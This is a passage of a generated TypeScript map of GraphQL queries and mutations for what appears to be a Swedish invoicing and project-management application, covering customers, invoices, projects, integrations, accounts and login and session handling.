    "\n  query ImpCustomer($number: String!) {\n    customerByNumber(number: $number) {\n      id number name type organisationNumber personalIdentityNumber vatNumber phone email active modifiedBy\n      invoiceAddress { address1 postcode city countryCode }\n      mailAddress { address1 postcode city }\n      paymentTerm { code }\n      assignedUser { signature }\n      customFields { key value }\n      contacts(first: 20) {\n        totalCount\n        edges { node { id name personalIdentityNumber brfOrganisationNumber apartmentNumber propertyDesignation phone mobile email isMainContact } }\n      }\n    }\n  }\n": typeof types.ImpCustomerDocument,
    "\n  query ImpCount { customers(first: 1) { totalCount } }\n": typeof types.ImpCountDocument,
    "\n  mutation ImpField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) { __typename }\n  }\n": typeof types.ImpFieldDocument,
    "\n  mutation ImpAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) { __typename }\n  }\n": typeof types.ImpAssignDocument,
    "\n  query ImpMe { me { id signature } }\n": typeof types.ImpMeDocument,
    "\n  query IntConnectors { connectors { id name version credentialKind settingsSchema flows { id direction entity base description } } }\n": typeof types.IntConnectorsDocument,
    "\n  mutation IntCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id name hasCredentials settings enabledFlows notificationEmails flows { id base enabled } } }\n      ... on ValidationError { message issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.IntCreateConnectionDocument,
    "\n  mutation IntUpdateConnection($input: UpdateConnectionInput!) {\n    updateConnection(input: $input) {\n      __typename\n      ... on MutationUpdateConnectionSuccess { data { id active notificationEmails hasCredentials } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.IntUpdateConnectionDocument,
    "\n  mutation IntSetFlow($id: ID!, $flowId: String!, $enabled: Boolean!) {\n    setConnectionFlowEnabled(id: $id, flowId: $flowId, enabled: $enabled) {\n      __typename\n      ... on MutationSetConnectionFlowEnabledSuccess { data { enabledFlows flows { id enabled } } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.IntSetFlowDocument,
    "\n  mutation IntCheck($id: ID!) { checkConnection(id: $id) { __typename ... on MutationCheckConnectionSuccess { data { ok message } } } }\n": typeof types.IntCheckDocument,
    "\n  mutation IntRun($id: ID!, $flows: [String!], $dryRun: Boolean) {\n    runConnection(id: $id, flows: $flows, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess { data { id status queuedAt } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.IntRunDocument,
    "\n  query IntRunResult($id: ID!) {\n    node(id: $id) {\n      ... on ConnectorRun {\n        id status trigger dryRun error notification cancelledBy cancelRequestedAt\n        flows { flowId status created updated unchanged skipped failed error }\n        failures { id reference entityType message }\n      }\n    }\n  }\n": typeof types.IntRunResultDocument,
    "\n  mutation IntCancel($id: ID!) {\n    cancelConnectorRun(id: $id) {\n      __typename\n      ... on MutationCancelConnectorRunSuccess { data { id status cancelledBy } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.IntCancelDocument,
    "\n  mutation IntSetCompanyLanguage($language: Language) {\n    updateCompanySettings(input: { language: $language }) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess { data { language } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.IntSetCompanyLanguageDocument,
    "\n  mutation IntRetry($id: ID!) {\n    retryConnectorFailure(id: $id) {\n      __typename\n      ... on MutationRetryConnectorFailureSuccess { data { id status } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.IntRetryDocument,
    "\n  query IntHistory($id: ID!) {\n    node(id: $id) {\n      ... on Connection {\n        runs(first: 10) { edges { node { status trigger flows { flowId status } failures { reference message entityType } } } }\n      }\n    }\n  }\n": typeof types.IntHistoryDocument,
    "\n  mutation IntAuthorizeUrl($id: ID!, $redirectUri: String!, $state: String!) {\n    connectionAuthorizeUrl(id: $id, redirectUri: $redirectUri, state: $state) {\n      __typename\n      ... on MutationConnectionAuthorizeUrlSuccess { data }\n      ... on Error { message code }\n    }\n  }\n": typeof types.IntAuthorizeUrlDocument,
    "\n  mutation IntDelete($id: ID!) { deleteConnection(id: $id) { __typename ... on Error { code } } }\n": typeof types.IntDeleteDocument,
    "\n  mutation DiCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id } } } } }\n      ... on Error { code message }\n    }\n  }\n": typeof types.DiCustomerDocument,
    "\n  mutation DiProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Distribution\", statusCode: 50 }) {\n      __typename ... on MutationCreateProjectSuccess { data { id number } } ... on Error { code message }\n    }\n  }\n": typeof types.DiProjectDocument,
    "\n  mutation DiInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number } } ... on Error { code message } }\n  }\n": typeof types.DiInvoiceDocument,
    "\n  mutation DiBuyers($invoiceId: ID!, $contactId: ID!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on Error { code message } }\n  }\n": typeof types.DiBuyersDocument,
    "\n  mutation DiLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { id locked number } } ... on Error { code message } ... on ValidationError { issues { path message } } }\n  }\n": typeof types.DiLockDocument,
    "\n  mutation DiCredit($id: ID!) {\n    creditInvoice(id: $id, reason: \"Fel antal timmar\") { __typename ... on MutationCreditInvoiceSuccess { data { id number } } ... on Error { code message } }\n  }\n": typeof types.DiCreditDocument,
    "\n  mutation DiSend($invoiceId: ID!, $method: InvoiceDeliveryMethod) {\n    sendInvoice(invoiceId: $invoiceId, method: $method) {\n      __typename\n      ... on MutationSendInvoiceSuccess { data { id method recipient outcome requestedBy attempts sentAt } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n": typeof types.DiSendDocument,
    "\n  query DiDeliveries($id: ID!) {\n    invoice(id: $id) {\n      id\n      deliveryStatus\n      deliveries(first: 10) { totalCount edges { node { method recipient outcome requestedBy sentAt error attempts externalId } } }\n    }\n  }\n": typeof types.DiDeliveriesDocument,
    "query DiPeppol($id: ID!) { invoice(id: $id) { id number peppolDocument peppolDocumentCheck { rule message } } }": typeof types.DiPeppolDocument,
    "mutation IntAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }": typeof types.IntAccountDocument,
    "mutation IntSettings($vat: String) { updateCompanySettings(input: { vatNumber: $vat }) { __typename } }": typeof types.IntSettingsDocument,
    "\n  mutation IntCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } }\n  }\n": typeof types.IntCustomerDocument,
    "\n  mutation IntProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n": typeof types.IntProjectDocument,
    "\n  mutation IntCreate($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } } } ... on Error { code message } }\n  }\n": typeof types.IntCreateDocument,
    "\n  mutation IntLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on Error { code } ... on ValidationError { issues { path code } } }\n  }\n": typeof types.IntLockDocument,
    "\n  mutation IntAddLine($invoiceId: ID!, $input: InvoiceLineInput!) { addInvoiceLine(invoiceId: $invoiceId, input: $input) { __typename ... on Error { code } } }\n": typeof types.IntAddLineDocument,
    "\n  mutation IntUpdateLine($id: ID!, $input: InvoiceLineInput!) { updateInvoiceLine(id: $id, input: $input) { __typename ... on Error { code } } }\n": typeof types.IntUpdateLineDocument,
    "mutation IntRemoveLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }": typeof types.IntRemoveLineDocument,
    "\n  mutation IntCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) { __typename ... on MutationCreditInvoiceSuccess { data { id isCredit } } ... on Error { code path message } }\n  }\n": typeof types.IntCreditDocument,
    "\n  mutation PdfSettings($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { __typename ... on Error { message } } }\n": typeof types.PdfSettingsDocument,
    "\n  mutation PdfCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id } } } } } }\n  }\n": typeof types.PdfCustomerDocument,
    "\n  mutation PdfProject($customerId: ID!) { createProject(input: { customerId: $customerId, number: \"10000\", name: \"Badrum\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n": typeof types.PdfProjectDocument,
    "\n  mutation PdfProject2($customerId: ID!) { createProject(input: { customerId: $customerId, name: \"Stambyte\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n": typeof types.PdfProject2Document,
    "\n  mutation PdfInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number pdfUrl } } ... on Error { message } }\n  }\n": typeof types.PdfInvoiceDocument,
    "\n  mutation PdfBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) { __typename ... on Error { message } } }\n": typeof types.PdfBuyersDocument,
    "mutation PdfLock($id: ID!) { lockInvoice(id: $id) { __typename ... on ValidationError { issues { path code } } } }": typeof types.PdfLockDocument,
    "\n  mutation PdfCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) { __typename ... on MutationCreditInvoiceSuccess { data { id number pdfUrl } } ... on Error { message } }\n  }\n": typeof types.PdfCreditDocument,
    "\n  mutation PdfCustomerLanguage($id: ID!, $language: Language!) {\n    updateCustomer(input: { id: $id, language: $language }) { __typename ... on Error { message } }\n  }\n": typeof types.PdfCustomerLanguageDocument,
    "\n  mutation IsCreateStatus($code: Int!, $name: String!) {\n    createInvoiceStatus(code: $code, name: $name) { __typename ... on MutationCreateInvoiceStatusSuccess { data { id code name } } ... on Error { code } }\n  }\n": typeof types.IsCreateStatusDocument,
    "mutation IsDeleteStatus($id: ID!) { deleteInvoiceStatus(id: $id) { __typename ... on Error { code } } }": typeof types.IsDeleteStatusDocument,
    "\n  mutation IsUpdate($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceSuccess { data { statusCode status { code name } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.IsUpdateDocument,
    "query IsList($code: Int) { invoices(first: 50, filter: { statusCode: $code }) { edges { node { id } } } }": typeof types.IsListDocument,
    "\n  mutation InvCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id name } } } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.InvCustomerDocument,
    "\n  mutation InvProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } }\n  }\n": typeof types.InvProjectDocument,
    "\n  mutation InvWorkOrder($projectId: ID!) {\n    createWorkOrder(projectId: $projectId, input: { name: \"AO\", customerReference: \"AO-REF\" }) { __typename ... on MutationCreateWorkOrderSuccess { data { id } } }\n  }\n": typeof types.InvWorkOrderDocument,
    "\n  mutation InvAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }\n": typeof types.InvAccountDocument,
    "\n  mutation InvSettings($vat: String) { updateCompanySettings(input: { vatNumber: $vat }) { __typename } }\n": typeof types.InvSettingsDocument,
    "query InvTerms { paymentTerms { id days } me { id signature } }": typeof types.InvTermsDocument,
    "\n  mutation InvCreate($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess {\n        data {\n          id number title isCredit customerType customerReference locked readyForInvoice invoiceDate dueDate dueDateSetByHand\n          contractorVat noVat taxReductionType subtotal vatAmount total rounding taxReductionAmount amountToPay warning warnings\n          vatGroups { rate base vat }\n          customer { id } ourReference { signature } paymentTerm { days } workOrder { id }\n          lines { id position description quantity unitPrice amount vatRate kind accountNumber reductionEligible workOrder { id } }\n        }\n      }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.InvCreateDocument,
    "\n  mutation InvUpdate($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceSuccess { data { invoiceDate dueDate dueDateSetByHand contractorVat noVat taxReductionType vatAmount total amountToPay taxReductionAmount warnings } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.InvUpdateDocument,
    "\n  mutation InvAddLine($invoiceId: ID!, $input: InvoiceLineInput!) {\n    addInvoiceLine(invoiceId: $invoiceId, input: $input) {\n      __typename\n      ... on MutationAddInvoiceLineSuccess { data { id amount kind position } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.InvAddLineDocument,
    "\n  mutation InvUpdateLine($id: ID!, $input: InvoiceLineInput!) {\n    updateInvoiceLine(id: $id, input: $input) { __typename ... on MutationUpdateInvoiceLineSuccess { data { amount kind reductionEligible } } ... on Error { code } }\n  }\n": typeof types.InvUpdateLineDocument,
    "mutation InvRemoveLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }": typeof types.InvRemoveLineDocument,
    "\n  mutation InvBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) {\n      __typename\n      ... on MutationSetInvoiceBuyersSuccess { data { taxReductionAmount amountToPay buyers { name personalIdentityNumber amount sharePercent } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.InvBuyersDocument,
    "\n  mutation InvLock($id: ID!) {\n    lockInvoice(id: $id) {\n      __typename\n      ... on MutationLockInvoiceSuccess { data { locked lockedBy invoiceDate dueDate taxReductionAmount amountToPay } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.InvLockDocument,
    "\n  mutation InvUnlock($id: ID!) { unlockInvoice(id: $id) { __typename ... on MutationUnlockInvoiceSuccess { data { locked } } ... on Error { code } } }\n": typeof types.InvUnlockDocument,
    "\n  mutation InvReady($id: ID!, $ready: Boolean!) { setInvoiceReadyForInvoice(id: $id, ready: $ready) { __typename ... on MutationSetInvoiceReadyForInvoiceSuccess { data { readyForInvoice } } ... on Error { code } } }\n": typeof types.InvReadyDocument,
    "\n  mutation InvCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) {\n      __typename\n      ... on MutationCreditInvoiceSuccess { data { id number isCredit creditReason title creditOf { number } subtotal vatAmount total taxReductionAmount amountToPay lines { quantity amount } buyers { amount } } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.InvCreditDocument,
    "\n  mutation InvWorkTypes($lineId: ID!, $workTypes: [WorkTypePartInput!]!) {\n    setInvoiceLineWorkTypes(lineId: $lineId, workTypes: $workTypes) {\n      __typename\n      ... on MutationSetInvoiceLineWorkTypesSuccess { data { amount workTypes { workType amount hours } } }\n      ... on ValidationError { issues { path code } }\n      ... on Error { code }\n    }\n  }\n": typeof types.InvWorkTypesDocument,
    "\n  query InvList($filter: InvoiceFilter, $orderBy: InvoiceOrder, $search: String, $first: Int) {\n    invoices(filter: $filter, orderBy: $orderBy, search: $search, first: $first) { totalCount edges { node { number total locked } } }\n  }\n": typeof types.InvListDocument,
    "\n      query InvPage($first: Int!) {\n        invoices(first: $first) { edges { node { number total customer { name } project { number } ourReference { name } lines { description amount workOrder { id } } vatGroups { rate vat } } } }\n      }\n    ": typeof types.InvPageDocument,
    "\n  mutation LrSettings($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess {\n        data {\n          organisationNumber registeredOffice fSkatt bankgiro bankgiroDigits plusgiro plusgiroDigits iban ibanFormatted bic lateInterestRate\n          defaultPaymentTerm { id days }\n        }\n      }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n": typeof types.LrSettingsDocument,
    "query LrTerms { paymentTerms { id days } }": typeof types.LrTermsDocument,
    "\n  mutation LrCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on ValidationError { issues { path code } } }\n  }\n": typeof types.LrCustomerDocument,
    "\n  mutation LrUpdateCustomer($input: UpdateCustomerInput!) {\n    updateCustomer(input: $input) { __typename ... on ValidationError { issues { path code } } }\n  }\n": typeof types.LrUpdateCustomerDocument,
    "\n  mutation LrProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n": typeof types.LrProjectDocument,
    "\n  mutation LrInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id dueDate warnings } } ... on ValidationError { issues { path code } } }\n  }\n": typeof types.LrInvoiceDocument,
    "\n  mutation LrLock($id: ID!) {\n    lockInvoice(id: $id) {\n      __typename\n      ... on MutationLockInvoiceSuccess { data { locked invoiceDate dueDate } }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n": typeof types.LrLockDocument,
    "\n  mutation RehashChangePassword($currentPassword: String, $newPassword: String!) {\n    changePassword(currentPassword: $currentPassword, newPassword: $newPassword) { __typename ... on Error { code message } }\n  }\n": typeof types.RehashChangePasswordDocument,
    "\n  mutation CompleteLogin($challenge: String!, $code: String!) {\n    completeLogin(challenge: $challenge, code: $code) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationCompleteLoginSuccess { data { accessToken refreshToken } }\n    }\n  }\n": typeof types.CompleteLoginDocument,
    "mutation Logout { logout { __typename ... on Error { code } ... on MutationLogoutSuccess { data } } }": typeof types.LogoutDocument,
    "mutation LogoutEverywhere { logoutEverywhere { __typename ... on MutationLogoutEverywhereSuccess { data } } }": typeof types.LogoutEverywhereDocument,
    "\n  mutation RevokeSession($id: ID!) { revokeSession(id: $id) { __typename ... on Error { code } ... on MutationRevokeSessionSuccess { data } } }\n": typeof types.RevokeSessionDocument,
    "query MySessions { mySessions { id current userAgent address expiresAt user { id } } }": typeof types.MySessionsDocument,
    "\n  mutation ChangePassword($currentPassword: String, $newPassword: String!) {\n    changePassword(currentPassword: $currentPassword, newPassword: $newPassword) {\n      __typename\n      ... on Error { code path }\n      ... on MutationChangePasswordSuccess { data { accessToken refreshToken } }\n    }\n  }\n": typeof types.ChangePasswordDocument,
    "\n  mutation RequestPasswordReset($email: String!) { requestPasswordReset(email: $email) { __typename ... on MutationRequestPasswordResetSuccess { data } } }\n": typeof types.RequestPasswordResetDocument,
    "\n  mutation ResetPassword($token: String!, $newPassword: String!) {\n    resetPassword(token: $token, newPassword: $newPassword) {\n      __typename\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on MutationResetPasswordSuccess { data }\n    }\n  }\n": typeof types.ResetPasswordDocument,
    "mutation EnrolTotp { enrolTotp { __typename ... on Error { code } ... on MutationEnrolTotpSuccess { data { secret uri } } } }": typeof types.EnrolTotpDocument,
    "\n  mutation ConfirmTotp($code: String!) { confirmTotp(code: $code) { __typename ... on Error { code path } ... on MutationConfirmTotpSuccess { data } } }\n": typeof types.ConfirmTotpDocument,
    "\n  mutation DisableTotp($code: String!) { disableTotp(code: $code) { __typename ... on Error { code path } ... on MutationDisableTotpSuccess { data } } }\n": typeof types.DisableTotpDocument,
    "\n  mutation InviteUser($email: String!, $groupIds: [ID!]) {\n    inviteUser(email: $email, groupIds: $groupIds) {\n      __typename\n      ... on Error { code path }\n      ... on MutationInviteUserSuccess { data { id email expiresAt } }\n    }\n  }\n": typeof types.InviteUserDocument,
    "\n  mutation AcceptInvite($token: String!, $name: String!, $password: String!) {\n    acceptInvite(token: $token, name: $name, password: $password) {\n      __typename\n      ... on Error { code path }\n      ... on MutationAcceptInviteSuccess { data { accessToken refreshToken } }\n    }\n  }\n": typeof types.AcceptInviteDocument,
    "query LoginGroups { groups { id name } }": typeof types.LoginGroupsDocument,
    "\n  mutation LoginDeactivateUser($input: UpdateUserInput!) { updateUser(input: $input) { __typename ... on MutationUpdateUserSuccess { data { active } } } }\n": typeof types.LoginDeactivateUserDocument,
    "\n  mutation NfCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number name } }\n      ... on Error { code message }\n    }\n  }\n": typeof types.NfCreateDocument,
    "\n  mutation NfAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) {\n      __typename\n      ... on MutationAssignCustomerSuccess { data { id assignedUser { signature } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.NfAssignDocument,
    "\n  query NfMine($unreadOnly: Boolean) {\n    myNotifications(first: 50, unreadOnly: $unreadOnly) {\n      totalCount\n      edges { node { id kind customerNumber customerName by readAt mailStatus customer { id } } }\n    }\n  }\n": typeof types.NfMineDocument,
    "\n  query NfAll($userId: ID, $mailStatus: NotificationMailStatus) {\n    notifications(first: 50, userId: $userId, mailStatus: $mailStatus) {\n      edges { node { id kind mailStatus mailTo mailAttempts mailError mailSentAt } }\n    }\n  }\n": typeof types.NfAllDocument,
    "query NfNode($id: ID!) { node(id: $id) { id ... on Notification { kind } } }": typeof types.NfNodeDocument,
    "\n  mutation NfRead($ids: [ID!]) {\n    markNotificationsRead(ids: $ids) {\n      __typename\n      ... on MutationMarkNotificationsReadSuccess { data }\n      ... on Error { code message }\n    }\n  }\n": typeof types.NfReadDocument,
    "query OcInvoice($id: ID!) { invoice(id: $id) { id number ocrReference } }": typeof types.OcInvoiceDocument,
    "query OcByOcr($reference: String!) { invoiceByOcr(reference: $reference) { id number } }": typeof types.OcByOcrDocument,
    "query OcSearch($search: String) { invoices(first: 10, search: $search) { edges { node { id ocrReference } } } }": typeof types.OcSearchDocument,
    "\n  mutation OcScheme($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) { __typename ... on MutationUpdateCompanySettingsSuccess { data { ocrScheme } } ... on Error { code } }\n  }\n": typeof types.OcSchemeDocument,
    "\n  mutation PrjCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id name } } } } }\n    }\n  }\n": typeof types.PrjCustomerDocument,
    "\n  mutation PrjInactivate($id: ID!) { inactivateCustomer(id: $id) { __typename } }\n": typeof types.PrjInactivateDocument,
    "query PrjMe { me { id signature } }": typeof types.PrjMeDocument,
    "\n  mutation PrjCreate($input: CreateProjectInput!) {\n    createProject(input: $input) {\n      __typename\n      ... on MutationCreateProjectSuccess {\n        data {\n          id number name customerReference startDate endDate statusCode phase sentToAccounting finishedAt description createdBy\n          status { code name }\n          customer { id number }\n          contact { id name }\n          projectManager { signature }\n        }\n      }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.PrjCreateDocument,
    "\n  mutation PrjUpdate($input: UpdateProjectInput!) {\n    updateProject(input: $input) {\n      __typename\n      ... on MutationUpdateProjectSuccess { data { id name statusCode phase sentToAccounting statusChangedAt finishedAt description contact { id } customer { id } modifiedBy } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.PrjUpdateDocument,
    "\n  mutation PrjClose($id: ID!, $statusCode: Int) {\n    closeProject(id: $id, statusCode: $statusCode) {\n      __typename\n      ... on MutationCloseProjectSuccess { data { statusCode phase finishedAt } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.PrjCloseDocument,
    "\n  mutation PrjAddWorkOrder($projectId: ID!, $input: WorkOrderInput!) {\n    createWorkOrder(projectId: $projectId, input: $input) {\n      __typename\n      ... on MutationCreateWorkOrderSuccess { data { id number reference name statusCode phase startDate effectiveStartDate customerReference project { number } } }\n      ... on Error { code path message }\n    }\n  }\n": typeof types.PrjAddWorkOrderDocument,
    "\n  mutation PrjUpdateWorkOrder($id: ID!, $input: WorkOrderInput!) {\n    updateWorkOrder(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateWorkOrderSuccess { data { name startDate effectiveStartDate statusCode } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.PrjUpdateWorkOrderDocument,
    "\n  mutation PrjCloseWorkOrder($id: ID!) {\n    closeWorkOrder(id: $id) { __typename ... on MutationCloseWorkOrderSuccess { data { statusCode phase finishedAt } } }\n  }\n": typeof types.PrjCloseWorkOrderDocument,
    "\n  mutation PrjAddChangeOrder($projectId: ID!, $input: ChangeOrderInput!) {\n    createChangeOrder(projectId: $projectId, input: $input) {\n      __typename\n      ... on MutationCreateChangeOrderSuccess { data { id number code reference name description estimatedAmount statusCode } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.PrjAddChangeOrderDocument,
    "\n  mutation PrjUpdateChangeOrder($id: ID!, $input: ChangeOrderInput!) {\n    updateChangeOrder(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateChangeOrderSuccess { data { estimatedAmount description statusCode } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.PrjUpdateChangeOrderDocument,
    "\n  mutation PrjCloseChangeOrder($id: ID!, $statusCode: Int) {\n    closeChangeOrder(id: $id, statusCode: $statusCode) {\n      __typename\n      ... on MutationCloseChangeOrderSuccess { data { statusCode phase } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.PrjCloseChangeOrderDocument,
    "\n  query PrjGet($id: ID!) {\n    project(id: $id) {\n      id number statusCode\n      workOrders(first: 50) { totalCount edges { node { number reference statusCode } } }\n      changeOrders(first: 50) { totalCount edges { node { code statusCode } } }\n      openWorkOrders: workOrders(first: 50, finished: false) { totalCount }\n    }\n  }\n": typeof types.PrjGetDocument,
    "\n  query PrjList($first: Int, $after: String, $search: String, $filter: ProjectFilter, $orderBy: ProjectOrder) {\n    projects(first: $first, after: $after, search: $search, filter: $filter, orderBy: $orderBy) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { number name statusCode startDate } }\n    }\n  }\n": typeof types.PrjListDocument,
    "query PrjByNumber($number: String!) { projectByNumber(number: $number) { id name } }": typeof types.PrjByNumberDocument,
    "query PrjStatuses { projectStatuses { id code name phase } }": typeof types.PrjStatusesDocument,
    "\n  mutation PrjCreateStatus($input: CreateProjectStatusInput!) {\n    createProjectStatus(input: $input) {\n      __typename\n      ... on MutationCreateProjectStatusSuccess { data { id code name phase } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.PrjCreateStatusDocument,
    "\n  mutation PrjRenameStatus($id: ID!, $name: String!) {\n    renameProjectStatus(id: $id, name: $name) { __typename ... on MutationRenameProjectStatusSuccess { data { code name } } ... on Error { code } }\n  }\n": typeof types.PrjRenameStatusDocument,
    "\n  mutation PrjDeleteStatus($id: ID!) {\n    deleteProjectStatus(id: $id) { __typename ... on Error { code message } }\n  }\n": typeof types.PrjDeleteStatusDocument,
    "\n  mutation PrjDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code message } } }\n": typeof types.PrjDeleteCustomerDocument,
    "\n  mutation PrjRemoveContact($id: ID!) { removeContact(id: $id) { __typename ... on Error { code } } }\n": typeof types.PrjRemoveContactDocument,
    "\n      query PrjPage($first: Int!) {\n        projects(first: $first) {\n          edges { node {\n            number status { name } customer { name }\n            workOrders(first: 10) { edges { node { reference effectiveStartDate status { name } } } }\n            changeOrders(first: 10) { edges { node { reference estimatedAmount } } }\n          } }\n        }\n      }\n    ": typeof types.PrjPageDocument,
    "query RaRead { revenueAccountingSettings { receivablesAccountNumber } }": typeof types.RaReadDocument,
    "\n  mutation RaSet($n: Int!) {\n    updateRevenueAccountingSettings(input: { receivablesAccountNumber: $n }) {\n      __typename\n      ... on MutationUpdateRevenueAccountingSettingsSuccess { data { receivablesAccountNumber } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.RaSetDocument,
    "\n  query ExpList($search: String, $filter: CustomerFilter, $orderBy: CustomerOrder) {\n    customers(first: 100, search: $search, filter: $filter, orderBy: $orderBy) { edges { node { number } } }\n  }\n": typeof types.ExpListDocument,
    "\n  mutation RegCreateAccount($input: CreateAccountInput!) {\n    createAccount(input: $input) {\n      __typename\n      ... on MutationCreateAccountSuccess { data { id number name active kind invoiceItemNumber externalVatCode defaultVatRate createdBy modifiedBy } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.RegCreateAccountDocument,
    "\n  mutation RegUpdateAccount($input: UpdateAccountInput!) {\n    updateAccount(input: $input) {\n      __typename\n      ... on MutationUpdateAccountSuccess { data { id number name active kind invoiceItemNumber externalVatCode defaultVatRate } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.RegUpdateAccountDocument,
    "\n  query RegAccounts($search: String, $filter: AccountFilter, $first: Int, $after: String) {\n    accounts(search: $search, filter: $filter, first: $first, after: $after) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { number name kind active } }\n    }\n  }\n": typeof types.RegAccountsDocument,
    "query RegAccountByNumber($number: Int!) { accountByNumber(number: $number) { id number name } }": typeof types.RegAccountByNumberDocument,
